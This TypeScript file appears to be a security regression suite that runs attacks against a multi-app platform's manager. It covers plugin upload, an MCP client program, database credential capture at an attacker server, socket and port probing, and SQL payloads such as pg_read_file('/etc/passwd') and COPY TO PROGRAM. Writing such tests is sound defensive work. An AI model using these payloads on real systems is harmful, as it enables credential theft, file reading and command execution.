import fs from 'node:fs';
import path from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { freePort, HOST } from '../../scripts/fleet';
import { ask } from '../support/http';
import { answerToUnfinishedUpload } from '../support/intruder';
import { read, signInAt, upload } from '../support/uploads';
import type { Attack } from './attacks';
import { withPermission } from './by-operators';
import { bearer, type Stage } from './stage';

/** What is tried by an app's administrator, and by operators against what was entered by others. */

/** What was not refused, of actions of the app's administrator. */
async function notRefused(stage: Stage, actions: Array<[action: string, body?: unknown]>): Promise<string[]> {
  const found: string[] = [];
  for (const [action, body] of actions) {
    const { status } = await stage.as('target', action, body);
    if (status !== 403) found.push(`${action} answers ${status}`);
  }
  return found;
}

/** Connections reach the attacker within this time, in ms, or not at all. */
const ARRIVAL = 1_000;
async function arrivedAt(stage: Stage): Promise<string[]> {
  await sleep(ARRIVAL);
  const found = stage.arrived.map((text) => `the attacker’s server got ${JSON.stringify(text.slice(0, 60))}`);
  stage.arrived.length = 0;
  return found;
}

const SOCKETS = ['/var/run/postgresql', '/tmp', '/tmp/.s.PGSQL.5432', '@abstract', '../x', 'file:///etc'];

export const firstAttempts: Attack[] = [
  {
    finding: 'S4',
    title: 'a plugin, by address, by upload and by name',
    async run(stage) {
      const { archive, packageName } = stage.stranger;
      const name = encodeURIComponent(packageName);
      const found = await notRefused(stage, [
        ['pm:add', { compressedFileUrl: archive }],
        ['%70m:add/', { compressedFileUrl: archive }],
        ['pm:update', { compressedFileUrl: archive }],
        [`pm:remove?filterByTk=${name}`, {}],
        ['pm:npmVersionList/ai'],
      ]);
      const upload = `${stage.url}/api/__app/target/pm:add`;
      const status = await answerToUnfinishedUpload(upload, bearer(stage.tokens.target));
      if (status !== 403) found.push(`an upload answers ${status}`);
      if (stage.stranger.isInstalled) found.push('it is installed');
      return found;
    },
  },
  {
    finding: 'S4',
    title: 'a program of an MCP client, the licence, and files of the host by a task',
    async run(stage) {
      const trace = path.join(stage.traces, 'program');
      const program = { name: 'x', enabled: true, transport: 'stdio', command: 'touch', args: [trace] };
      const found = await notRefused(stage, [
        ['aiMcpClients:testConnection', program],
        ['aiMcpClients:create', program],
        ['license:license-key', { licenseKey: 'x' }],
        ['asyncTasks:create', { status: 1, result: { filePath: '/etc/passwd' } }],
      ]);
      await stage.as('target', 'aiMcpClients:testConnection', { ...program, transport: '{{ nothing:stdio }}' });
      return [...found, ...stage.traced().map((file) => `a program has written ${file}`)];
    },
  },
  {
    finding: 'S6',
    title: 'the check of a database on a foreign server, with the Worker’s own password',
    async run(stage) {
      for (const dbConnType of ['new_database', 'new_schema']) {
        const database = { host: HOST, port: stage.sinkPort, database: 'x', schema: 'x' };
        await stage.as('main', 'apps:checkDatabase', { environment: 'env_a', dbConnType, database });
        const { username: _, ...named } = { username: 'x', ...database };
        await stage.as('main', 'apps:checkDatabase', { environment: 'env_a', name: 'x', dbConnType, database: named });
      }
      return arrivedAt(stage);
    },
  },
  {
    finding: 'S7',
    title: 'a stored password, by changing the server that it is for',
    async run(stage) {
      const found: string[] = [];
      for (const password of [{}, { password: '' }]) {
        const database = { host: HOST, port: stage.sinkPort, ...password };
        const options = { dbConnType: 'new_connection', database };
        const { status, code } = await stage.as('main', 'apps:update?filterByTk=broken', { options });
        if (code !== 'PASSWORD_REQUIRED') found.push(`the change is answered ${status} ${code}`);
      }
      return [...found, ...(await arrivedAt(stage))];
    },
  },
  {
    finding: 'S12',
    title: 'sockets and files of the host as a database server',
    async run(stage) {
      const found: string[] = [];
      for (const host of SOCKETS) {
        const database = { dialect: 'postgres', host, username: 'x', password: 'x', database: 'x' };
        const values = { environment: 'env_a', dbConnType: 'new_connection', database };
        const { status } = await stage.as('main', 'apps:checkDatabase', values);
        if (status !== 400) found.push(`${host} answers ${status}`);
      }
      return found;
    },
  },
];

export const laterAttempts: Attack[] = [
  {
    finding: 'S10',
    title: 'main databases, adopted as apps',
    async run(stage) {
      const found: string[] = [];
      for (const { database, name } of stage.fleet.instances) {
        const values = { name: 'thief', title: 'Thief', environments: ['env_a'], options: { database: { database } } };
        const answer = await stage.as('main', 'apps:adopt', values);
        if (answer.status >= 400) continue;
        const { state } = await stage.manager.ended(answer.json.data.operation);
        if (state === 'succeeded') found.push(`that of ${name} runs as an app`);
        await stage.manager.destroy('thief', 'keep');
      }
      return found;
    },
  },
  {
    finding: 'S12',
    title: 'open and closed ports of the inside, told apart by the check of a database',
    async run(stage) {
      const said: string[] = [];
      // Whoever has Security is told.
      await withPermission(stage, 'pm.app-supervisor.apps', async (as) => {
        for (const port of [stage.sinkPort, await freePort()]) {
          const database = { dialect: 'postgres', host: HOST, port, username: 'x', password: 'x', database: 'x' };
          const values = { environment: 'env_a', dbConnType: 'new_connection', database };
          const { status, text } = await as('apps:checkDatabase', values);
          said.push(`${status} ${text.replaceAll(String(port), 'PORT')}`);
        }
        return said;
      });
      if (said.length < 2) return ['the check was refused'];
      stage.arrived.length = 0;
      return said[0] === said[1] ? [] : [`open: ${said[0].slice(0, 300)}; closed: ${said[1].slice(0, 300)}`];
    },
  },
  {
    finding: 'S3',
    title: 'the database server and other databases, by SQL of the app’s administrator',
    async run(stage) {
      const { database } = (await stage.manager.app('target')).options.database;
      const others = (await stage.databases()).filter((name) => name !== database);
      const trace = path.join(stage.traces, 'sql');
      const statements: Array<[text: string, isThrough: (answer: string) => boolean]> = [
        [`SELECT rolsuper OR rolcreatedb OR rolcreaterole AS a FROM pg_roles WHERE rolname = current_user`, isTrue],
        [`SELECT pg_read_file('/etc/passwd') AS a`, (text) => text.includes('root:')],
        [`COPY (SELECT 1) TO PROGRAM 'touch ${trace}'`, () => false],
        [`SELECT lo_export(lo_from_bytea(0, 'x'), '${trace}') AS a`, () => false],
        [
          `SELECT bool_or(has_database_privilege(datname, 'CONNECT')) AS a FROM pg_database WHERE datallowconn AND datname IN (${others
            .map((name) => `'${name}'`)
            .join()})`,
          isTrue,
        ],
        ['SET ROLE nocobase_worker', () => true],
        ["ALTER ROLE CURRENT_USER SET session_preload_libraries = 'x'", () => true],
        [
          `SELECT count(query) > 3 AS a FROM pg_stat_activity WHERE datname <> '${database}' AND query LIKE '%apps%'`,
          isTrue,
        ],
      ];
      const found: string[] = [];
      // Not `sqlCollection:execute`: NocoBase itself refuses there what names these.
      const run = (sql: string) =>
        stage.as('target', 'flowSql:run', { sql, type: 'selectRows', dataSourceKey: 'main' });
      const control = await run('SELECT count(*) > 0 AS a FROM pg_roles');
      if (!isTrue(control.text)) return [`SQL was not tried: ${control.status} ${control.text}`];
      for (const [sql, isThrough] of statements) {
        const { status, text } = await run(sql);
        if (status === 200 && isThrough(text)) found.push(`${sql.slice(0, 80)} gives ${text.slice(0, 120)}`);
      }
      return [...found, ...stage.traced().map((file) => `a file was written: ${file}`)];
    },
  },
];

/** The administrator of a new app, who looks for what the former app of its name has left. */
export const ofFormerApps: Attack[] = [
  {
    finding: 'S14',
    title: 'uploads and backups of a former app of the same name',
    async run({ fleet, manager, url, marks }) {
      const place = { name: 'thief', environments: ['env_a'] };
      const { options } = await manager.create(place);
      const former = await signInAt(url, 'thief');
      const file = await upload(url, 'thief', former, { name: 'left.txt', content: marks.target });
      const stored = read(url, file, { Cookie: former.Cookie });
      if (!(await stored).text.includes(marks.target)) return ['the upload cannot be read'];
      const backups = path.join(fleet.worker('env_a').storage, 'backups', 'thief');
      fs.mkdirSync(backups, { recursive: true });
      fs.writeFileSync(path.join(backups, 'backup_20260101_000000_0001.nbdata'), marks.target);
      await manager.destroy('thief', 'keep');

      const database = `${options.database.database}_2`;
      await manager.create({ ...place, options: { dbConnType: 'new_database', database: { database } } });
      const { Cookie, token } = await signInAt(url, 'thief');
      const asThief = { ...bearer(token), 'X-App': 'thief' };
      const found: string[] = [];
      for (const headers of [{ Cookie }, asThief]) {
        const { text } = await read(url, file, headers as Record<string, string>);
        if (text.includes(marks.target)) found.push(`${file} gives it`);
      }
      const enabled = '/api/pm:enable?filterByTk=backups&awaitResponse=1';
      await ask(url, enabled, { method: 'POST', headers: asThief, timeout: 60_000 });
      const { text } = await ask(url, '/api/backups:list', { headers: asThief });
      if (text.includes('20260101')) found.push('its backups are listed');
      if (fs.existsSync(backups)) found.push('its backups are where those of the new app go');

      await manager.destroy('thief', 'drop');
      const kept = { dbConnType: 'new_database', database: { database: options.database.database } };
      await manager.adopt({ ...place, options: kept });
      const own = await signInAt(url, 'thief');
      if (!(await read(url, file, { Cookie: own.Cookie })).text.includes(marks.target))
        found.push('whoever adopts its database does not find its uploads');
      await manager.destroy('thief', 'drop');
      return found;
    },
  },
];

const isTrue = (text: string) => /"a":true/.test(text);
